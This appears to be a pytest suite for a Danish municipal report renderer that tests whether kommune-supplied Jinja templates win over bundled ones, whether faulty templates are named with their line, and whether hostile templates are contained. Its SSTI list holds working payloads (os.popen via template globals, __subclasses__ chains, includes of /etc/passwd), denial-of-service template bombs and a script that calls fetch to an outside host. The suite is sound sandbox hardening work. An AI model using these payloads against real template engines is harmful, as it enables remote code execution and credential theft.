"""The kommune's own templates: they win, a faulty one is named with its line, and none can do any harm."""

import builtins
import os
import random
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from canaries import SETTINGS
from jinja2 import Environment

import scenes
from figures import reached
from vforlob.actions.make_referat import make_referat
from vforlob.errors.answer import FaultyFile
from vforlob.model.referat import Afsnit, Linje, Raekke, Referat
from vforlob.render.filters import FILTERS
from vforlob.render.grammar import Checked
from vforlob.render.plain import as_data
from vforlob.render.render import render
from vforlob.render.sources import BUNDLE

NAME = "referat_borger.txt.jinja"


@pytest.fixture(scope="module")
def referat() -> Referat:
    return make_referat(scenes.opfolgning(), "borger", SETTINGS)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    skabeloner = tmp_path / "skabeloner"
    skabeloner.mkdir()
    return skabeloner


def fill(folder: Path, template: str, referat: Referat, name: str = NAME) -> str:
    (folder / name).write_text(template)
    return render(referat, name.split(".")[1], str(folder))


def fault(folder: Path, template: str, referat: Referat, name: str = NAME) -> tuple[str, int, str]:
    with pytest.raises(FaultyFile) as caught:
        fill(folder, template, referat, name)
    (only,) = caught.value.faults
    return os.path.basename(caught.value.file), only.line, only.sentence


def filled_or_named(folder: Path, template: str, referat: Referat) -> tuple[str, str]:
    """What was made of it, or the sentence that says why nothing was; any other error is one of ours."""
    try:
        return fill(folder, template, referat), ""
    except FaultyFile as error:
        return "", error.faults[0].sentence


# --- they win ---


def test_the_kommunes_own_template_wins(folder: Path, referat: Referat) -> None:
    made = fill(folder, "{{ titel }}\n{{ referat.titel }}\n", referat)

    assert made == "Opfølgning den 20. november 2026\nOpfølgning den 20. november 2026\n"


def test_the_other_recipients_keep_ours(folder: Path, referat: Referat) -> None:
    (folder / NAME).write_text("vores")

    assert render(referat._replace(modtager="mentor"), "txt", str(folder)) == render(
        referat._replace(modtager="mentor"), "txt", None
    )


def test_it_can_use_parts_of_ours_and_of_its_own(folder: Path, referat: Referat) -> None:
    (folder / "sidefod.txt.jinja").write_text("Kommunen, {{ konsulent | upper }}")
    template = '{% import "_dele.txt.jinja" as dele %}\n{{ dele.lykkedes(lykkedes) }}{% include "sidefod.txt.jinja" %}'

    made = fill(folder, template, referat)

    assert "Det er lykkedes\n- Det klarer du nu selv" in made
    assert made.endswith("Kommunen, KAREN HOLM\n")


def test_every_published_field_can_be_read(folder: Path, referat: Referat) -> None:
    template = "".join(f"{{% if {name} is defined %}}{name} {{% endif %}}" for name in Referat._fields)

    assert fill(folder, template, referat).split() == list(Referat._fields)


@pytest.mark.parametrize(
    ("template", "made"),
    [
        ("{{ 'a' ~ titel[:3] ~ 1 }}", "aOpf1\n"),
        ("{{ deltagere | join(', ') }}", "borger, leder, undertegnede\n"),
        ("{{ mangler | default('-') }}", "-\n"),
        ("{{ alias | default('ingen', true) }}", "ingen\n"),
        (
            "{% for d in deltagere %}{{ loop.index }}{{ d | capitalize }}{{ '.' if loop.last else ' ' }}{% endfor %}",
            None,
        ),
        ("{% set a = 'x' %}{{ a + 'y' }}{{ 1 + 2 - 1 }}", "xy2\n"),
        ("{% if modtager in ['borger', 'mentor'] and not alias %}ja{% endif %}", "ja\n"),
        ("{{ titel | replace('Opfølgning', 'Møde') | lower | trim | length }}", "26\n"),
        ("{% macro m(a) %}<{{ a }}>{% endmacro %}{{ m('b') ~ 'c' }}", "<b>c\n"),
        ("{% macro m() %}<{{ caller() }}>{% endmacro %}{% call m() %}{{ titel[:3] }}{% endcall %}", "<Opf>\n"),
        ("{{ afsnit[0]['linjer'][-1].tekst }}", "Det går bedre, end jeg troede\n"),
        ("\ufeff{{ naeste_dato }}\r\n{{ naeste_kl }}\r\n", "2026-12-01\n14:00\n"),
    ],
)
def test_a_template_can_do_what_a_text_needs(folder: Path, referat: Referat, template: str, made: str | None) -> None:
    found = fill(folder, template, referat)

    assert found == (made if made is not None else "1Borger 2Leder 3Undertegnede.\n")


@pytest.mark.parametrize("path", sorted(Path(BUNDLE).glob("*.jinja")), ids=lambda path: path.name)
def test_our_own_templates_obey_the_same_grammar(path: Path) -> None:
    parsed = Environment(trim_blocks=True, lstrip_blocks=True).parse(path.read_text(encoding="utf-8"))

    Checked(path.name, str(path)).visit(parsed)


# --- a faulty one is named ---


@pytest.mark.parametrize(
    ("template", "line", "says"),
    [
        ("en\nto {{ titell }}\n", 2, "»titell« findes ikke her."),
        ("en\n\n{{ referat.titell }}", 3, "Mente du »titel«?"),
        ("en\n{% for a in afsnit %}\n{{ a.overskrif }}\n{% endfor %}", 3, "Mente du »overskrift«?"),
        ("{{ titel }\n", 1, ""),
        ("en\n{% if titel %}\nto", 3, "afsluttet"),
        ("en\n{% hvis titel %}", 2, "ikke findes"),
        ("en\nto\n{{ titel | stor }}", 3, "Der er intet filter, der hedder »stor«."),
        ("{% if titel is pæn %}{% endif %}", 1, "ingen prøve"),
        ("en\n{{ titel.upper() }}", 2, "kan ikke hentes her"),
        ("en\n{{ titel() }}", 2, "Kun skabelonens egne makroer"),
        ("en\n{{ afsnit }}", 2, "ikke en liste"),
        ('en\n{% include "mangler.txt.jinja" %}', 2, "»mangler.txt.jinja« findes ikke."),
        ('{% include "../data.jinja" %}', 1, "findes ikke."),
        ("en\n{{ 2 * 3 }}", 2, "kan ikke gange"),
        ("{% autoescape false %}{{ titel }}{% endautoescape %}", 1, "Autoescape"),
        ("x\n" * 100_001, 0, "for stor"),
    ],
)
def test_a_faulty_template_is_named_with_its_line_in_danish(
    folder: Path, referat: Referat, template: str, line: int, says: str
) -> None:
    file, found_line, sentence = fault(folder, template, referat)

    assert (file, found_line) == (NAME, line)
    assert says in sentence
    assert sentence[-1] in ".?"
    assert not any(word in f" {sentence.lower()} " for word in (" is ", " not ", " the ", "error", "unexpected"))


def test_a_fault_in_a_part_is_placed_in_the_part(folder: Path, referat: Referat) -> None:
    (folder / "sidefod.txt.jinja").write_text("en\nto\n{{ mangler }}")

    file, line, _ = fault(folder, '{% include "sidefod.txt.jinja" %}', referat)

    assert (file, line) == ("sidefod.txt.jinja", 3)


@pytest.mark.parametrize(
    "content", [b"\xff\xfe\x00", "æ".encode("latin-1"), b"en\nto \xe6"], ids=["utf-16", "latin-1", "line 2"]
)
def test_a_file_that_is_not_utf8_is_named(folder: Path, referat: Referat, content: bytes) -> None:
    (folder / NAME).write_bytes(content)

    with pytest.raises(FaultyFile) as caught:
        render(referat, "txt", str(folder))

    assert "UTF-8" in caught.value.faults[0].sentence
    assert caught.value.faults[0].line == content.count(b"\n") + 1


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no pipes with a name")
def test_what_is_no_ordinary_file_is_refused_and_not_waited_for(folder: Path, referat: Referat) -> None:
    os.mkfifo(folder / NAME)

    with pytest.raises(FaultyFile):
        render(referat, "txt", str(folder))


def test_the_message_of_a_fault_holds_nothing_that_was_said(folder: Path, referat: Referat) -> None:
    _, _, sentence = fault(folder, "{{ afsnit[0].linjer[1].tekst.x }}", referat)

    assert "bedre" not in sentence


# --- and does no harm ---

OBJECTS = ["''", "titel", "afsnit", "referat", "lykkedes", "loop", "caller", "self", "7", "true", "none", "(1,2)"]
STEPS = [
    "__class__",
    "__init__",
    "__globals__",
    "__class__.__mro__",
    "__class__.__base__.__subclasses__()",
    "__doc__",
    "__getattribute__('x')",
    "format(1)",
    "format_map({})",
    "join(['a'])",
]
SSTI = [
    *(f"{{{{ {one}.{step} }}}}" for one in ("''", "titel", "afsnit", "referat") for step in STEPS),
    *(f"{{{{ {one}['__class__'] }}}}" for one in OBJECTS),
    *(f"{{{{ {one}|attr('__class__') }}}}" for one in ("''", "titel", "referat")),
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__['__builtins__'] }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum() }}",
    "{{ dict(a=1) }}",
    "{{ range(10) }}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ config.items() }}",
    "{{ request['application'] }}",
    "{{ self._TemplateReference__context }}",
    "{{ self.__init__.__globals__ }}",
    "{% for a in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "{% for a in deltagere %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "{% for a in deltagere %}{{ loop._iterable }}{% endfor %}",
    "{% macro m() %}{% endmacro %}{{ m.__init__ }}",
    "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "{% macro m() %}{% endmacro %}{{ m.__call__.__func__ }}",
    "{% macro m() %}{{ varargs.__class__ }}{% endmacro %}{{ m(1) }}",
    "{% macro m() %}{{ caller.__class__ }}{% endmacro %}{% call m() %}{% endcall %}",
    '{% import "_dele.txt.jinja" as d %}{{ d.__name__ }}',
    '{% import "_dele.txt.jinja" as d %}{{ d._body_stream }}',
    '{% import "_dele.txt.jinja" as d %}{{ d.__class__.__init__.__globals__ }}',
    '{% from "_dele.txt.jinja" import __class__ %}{{ __class__ }}',
    "{% import os %}",
    "{% import 'os' as os %}{{ os }}",
    "{% include '/etc/passwd' %}",
    "{% include '../noegle.json' %}",
    "{% include 'noegle.json' %}",
    "{% extends '/etc/passwd' %}",
    "{% include ['/etc/passwd', '../x.jinja'] ignore missing %}{{ x }}",
    "{{ ''|safe }}",
    "{{ titel|map('upper') }}",
    "{{ [titel]|map(attribute='__class__')|list }}",
    "{{ afsnit|selectattr('__class__') }}",
    "{{ afsnit|groupby('__class__') }}",
    "{{ '%s' % titel }}",
    "{{ '%(a)s' % referat }}",
    "{{ '{0.__class__}'.format(titel) }}",
    "{{ titel|format(1) }}",
    "{{ titel|pprint }}",
    "{{ titel|tojson }}",
    "{{ titel|xmlattr }}",
    "{{ titel|filesizeformat }}",
    "{% set x = titel.__class__ %}{{ x }}",
    "{% with a = titel.__class__ %}{{ a }}{% endwith %}",
    "{% do titel.append(1) %}",
    "{{ referat.update({'titel': 'x'}) }}",
    "{{ referat.pop('titel') }}",
    "{{ afsnit.append(1) }}",
    "{{ afsnit.clear() }}",
    "{% debug %}",
    "{% trans %}x{% endtrans %}",
    "{{ _('x') }}",
    "{{ (titel|attr)('__class__') }}",
    "{{ ().__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ {}.__class__ }}",
    "{{ 1.__class__ }}",
    "{{ titel['__class__']['__mro__'][1] }}",
    "{{ titel['__cla' ~ 'ss__'] }}",
    "{{ titel['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ referat['__class__'] }}",
    "{{ referat.keys() }}",
    "{{ referat.items() }}",
    "{{ titel.encode() }}",
    "{{ ''.join(['a']) }}",
    "{{ undefined_thing.__class__ }}",
    "{{ mangler.__init__.__globals__ }}",
]


@pytest.fixture
def no_escape(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What a payload would reach for, watched. Nothing of ours is changed."""
    reached: list[str] = []
    for module, name in ((os, "system"), (os, "popen"), (subprocess, "Popen"), (socket, "socket"), (builtins, "eval")):
        monkeypatch.setattr(module, name, lambda *_a, _n=name, **_k: reached.append(_n))
    return reached


def test_the_list_of_payloads_is_long() -> None:
    assert len(set(SSTI)) >= 100


@pytest.mark.parametrize("payload", SSTI)
def test_a_payload_reaches_nothing(folder: Path, referat: Referat, payload: str, no_escape: list[str]) -> None:
    before = str(as_data(referat))

    made, _ = filled_or_named(folder, payload, referat)

    assert no_escape == []
    assert not any(word in made for word in ("class", "built-in", "function", "object at", "root:", "uid="))
    assert str(as_data(referat)) == before


BOMBS = [
    "{{ 'x' * 10**9 }}",
    "{{ titel * 1000000000 }}",
    "{{ ('%s' * 9) % titel }}",
    "{{ 9**9**9 }}",
    "{% for a in afsnit %}" * 12 + "x" + "{% endfor %}" * 12,
    "{% for a in indledning %}" * 8 + "{% endfor %}" * 8,
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% macro a() %}{{ a() }}{{ a() }}{% endmacro %}{{ a() }}",
    "{% set a = 'x' %}" + "".join("{% set a = a ~ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a ~ a %}" for _ in range(12)) + "{{ a }}",
    "{% set a %}xxxxxxxxxx{% endset %}" + "{% set a %}{{ a }}{{ a }}{{ a }}{{ a }}{{ a }}{% endset %}" * 14 + "{{ a }}",
    "{% set a = [1, 2] %}" + "{% set a = [a, a, a, a, a, a, a, a, a, a] %}" * 12 + "{{ a | join }}",
    "{{ indledning | replace('', indledning) | replace('', indledning) | replace('', indledning) }}",
    "{% include 'referat_borger.txt.jinja' %}",
    "{{ 'a' | center(1000000000) }}",
    "{{ 'a' | indent(1000000000) }}",
    "{{ '" + "9" * 100_000 + "' }}{{ " + "9" * 100_000 + " }}",
    "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}",
    "{{ " + "not " * 20_000 + "true }}",
    "{{ titel" + ".a" * 50_000 + " }}",
    "{{ titel }}" * 15_000,
    "{% if titel %}" * 8_000,
    "{{ 'x" + "ø" * 190_000 + "' }}" * 1,
    "{% for a in afsnit %}{% for b in afsnit %}{% for c in afsnit %}{% for d in afsnit %}{{ indledning }}"
    + "{% endfor %}" * 4,
    "{% for a in lykkedes recursive %}{{ loop(lykkedes) }}{% endfor %}",
    "{% set a = 'aaaaaaaaaa' %}{% for i in indledning %}{% for j in indledning %}{% for k in indledning %}"
    "{% if a ~ a ~ a in a %}{% endif %}{% endfor %}{% endfor %}{% endfor %}",
]


# The deadline may strike inside a callback of the garbage collector, where Python tells of it and goes on.
@pytest.mark.safety
@pytest.mark.tal
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("bomb", BOMBS, ids=range(len(BOMBS)))
def test_a_bomb_is_over_within_three_seconds(folder: Path, referat: Referat, bomb: str) -> None:
    began = time.process_time()

    made, said = filled_or_named(folder, bomb, referat)
    took = time.process_time() - began

    reached(
        10,
        "Bomber i skabeloner",
        required="12, højst 3 s hver",
        reached=f"bomber: 1, højst {took:.1f} s",
        control="uden ur og loft løber de for evigt",
    )
    assert took <= 3
    assert len(made) <= 500_000
    assert made or said


def test_the_deadline_also_holds_outside_the_main_thread_and_leaves_no_trace(folder: Path, referat: Referat) -> None:
    caught: list[FaultyFile] = []

    def run() -> None:
        with pytest.raises(FaultyFile) as error:
            fill(folder, BOMBS[5], referat)
        caught.append(error.value)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join(10)

    assert "for lang tid" in caught[0].faults[0].sentence
    assert sys.gettrace() is None


def test_an_own_html_template_cannot_take_the_policy_away(folder: Path, referat: Referat) -> None:
    hostile = "<!doctype html><!-- <head><script>fetch('https://example.org?{{ titel }}')</script>{{ titel }}"

    made = fill(folder, hostile, referat, "referat_borger.html.jinja")

    assert made.index("default-src 'none'") < made.index("<script>")
    assert made.startswith("<!doctype html>")


def test_own_html_and_markdown_templates_escape_without_being_asked(folder: Path, referat: Referat) -> None:
    typed = referat._replace(titel="<b>*x*</b>")

    as_html = fill(folder, "{{ titel }}{{ '<i>' }}{{ titel ~ '<' }}", typed, "referat_borger.html.jinja")
    as_md = fill(folder, "{{ titel }} {{ '*' }} {% macro m(a) %}**{{ a }}**{% endmacro %}{{ m('a*') }}", typed, NAME_MD)

    assert as_html.endswith("&lt;b&gt;*x*&lt;/b&gt;&lt;i&gt;&lt;b&gt;*x*&lt;/b&gt;&lt;\n")
    assert as_md == "\\<b\\>\\*x\\*\\</b\\> \\* **a\\***\n"


NAME_MD = "referat_borger.md.jinja"


@pytest.mark.parametrize("escape", ["\x1b[31m", "\\x1b[31m", "\u202e", "\\u202e"])
def test_what_a_template_writes_is_cleaned_too(folder: Path, referat: Referat, escape: str) -> None:
    made = fill(folder, f"{escape}{{{{ '{escape}' }}}}", referat)

    assert "\x1b" not in made
    assert "\u202e" not in made


# --- fuzz ---

PIECES = [
    *("{{", "}}", "{%", "%}", "{#", "#}", "{%-", "-%}", "{{-", "+%}", "for", "in", "if", "else", "elif", "endif"),
    *("endfor", "macro", "endmacro", "call", "endcall", "set", "endset", "with", "endwith", "block", "endblock"),
    *("include", "import", "from", "as", "extends", "raw", "endraw", "filter", "endfilter", "autoescape", "recursive"),
    *("titel", "afsnit", "referat", "loop", "self", "caller", "a", "x", "__class__", "lykkedes", "join", "upper"),
    *(".", ",", "|", "(", ")", "[", "]", "{", "}", "~", "+", "-", "*", "**", "%", "/", "//", "=", "==", "!=", "<"),
    *("1", "2.5", "9999999999", "1e308", "'æ'", '"x"', "''", "true", "none", "not", "and", "or", "is", "defined"),
    *("\n", " ", "\t", "\\", "\x00", "é", "👩‍🏭", '"_dele.txt.jinja"', "'referat_borger.txt.jinja'", ":", ";", "@"),
]
SEEDS = [Path(BUNDLE, name).read_text() for name in ("_brev.txt.jinja", "_dele.txt.jinja", "_notat.txt.jinja")]


def mutated(rnd: random.Random) -> str:
    if rnd.random() < 0.5:
        return " ".join(rnd.choices(PIECES, k=rnd.randrange(1, 40)))
    text = rnd.choice(SEEDS)
    for _ in range(rnd.randrange(1, 6)):
        at = rnd.randrange(len(text))
        text = text[:at] + rnd.choice(["", rnd.choice(PIECES), text[at : at + 9] * 3]) + text[at + rnd.randrange(9) :]
    return text


def fuzz(folder: Path, referat: Referat, times: int, seed: int) -> int:
    rnd, filled = random.Random(seed), 0
    for _ in range(times):
        template = mutated(rnd)
        began = time.process_time()
        made, said = filled_or_named(folder, template.encode("utf-8", "replace").decode(), referat)
        filled += not said
        assert made or said, template
        assert "object at 0x" not in made, template
        assert time.process_time() - began <= 3, template
    return filled


def test_mutated_templates_are_filled_or_named(folder: Path, referat: Referat) -> None:
    assert 0 < fuzz(folder, referat, 300, 1) < 300


@pytest.mark.safety
@pytest.mark.tal
@pytest.mark.parametrize("seed", range(4))
def test_ten_thousand_mutated_templates_are_filled_or_named(
    folder: Path, referat: Referat, seed: int, no_escape: list[str]
) -> None:
    filled = fuzz(folder, referat, 2_500, 100 + seed)

    reached(
        10,
        "Ødelagte skabeloner, udfyldt",
        required="10.000, 0 udslip, højst 3 s hver",
        reached=f"2500: {filled} udfyldt, {2_500 - filled} afvist med linje, {len(no_escape)} udslip",
        control="en almindelig Jinja uden hegn giver udslip",
    )
    assert 0 < filled < 2_500
    assert no_escape == []


@pytest.mark.safety
@pytest.mark.tal
def test_every_known_payload_is_counted(folder: Path, referat: Referat, no_escape: list[str]) -> None:
    known = sorted(set(SSTI))

    out = [payload for payload in known if has_escaped(filled_or_named(folder, payload, referat)[0], no_escape)]
    without_fence = [payload for payload in known if escapes_plainly(payload, referat)]

    reached(
        10,
        "Kendte angreb gennem en skabelon",
        required="60, 0 udslip",
        reached=f"{len(known)}, {len(out)} udslip",
        control=f"en almindelig Jinja uden hegn giver {len(without_fence)} udslip",
    )
    assert out == []
    assert len(without_fence) > 20


def has_escaped(made: str, reached_for: list[str]) -> bool:
    return bool(reached_for) or any(word in made for word in ("class", "built-in", "function", "object at", "uid="))


def escapes_plainly(payload: str, referat: Referat) -> bool:
    """The known-bad variant: Jinja as it comes."""
    try:
        made = Environment(autoescape=True).from_string(payload).render(as_data(referat))
    except Exception:  # whatever it says, nothing came out
        return False
    return has_escaped(made.replace("&lt;", "<"), [])


# --- that these tests can go red ---


def test_control_an_ordinary_environment_lets_the_payloads_out(referat: Referat) -> None:
    made = Environment(autoescape=True).from_string("{{ titel.__class__ }}").render(as_data(referat))

    assert "class" in made


# --- what is written about them ---


def test_the_page_about_templates_names_every_field_and_filter() -> None:
    page = Path(__file__).parents[2].joinpath("docs", "skabeloner.md").read_text(encoding="utf-8")
    fields = {*Referat._fields, *Afsnit._fields, *Raekke._fields, *Linje._fields}

    assert {field for field in fields if f"`{field}`" not in page} == set()
    assert {name for name in FILTERS if name not in page} <= {"d", "count"}


def test_the_example_on_the_page_works(folder: Path, referat: Referat) -> None:
    page = Path(__file__).parents[2].joinpath("docs", "skabeloner.md").read_text(encoding="utf-8")
    lines = page.partition("## Et eksempel")[2].partition("\nSe en samtales")[0].splitlines()
    example = "\n".join(line.removeprefix("    ") for line in lines if line.startswith("    ") or not line)

    made = fill(folder, example, referat)

    assert "Spørge leder om nøgle til skabet – senest tirsdag den 24. november 2026 (uge 48)" in made
    assert made.endswith("Venlig hilsen\nKaren Holm\n")
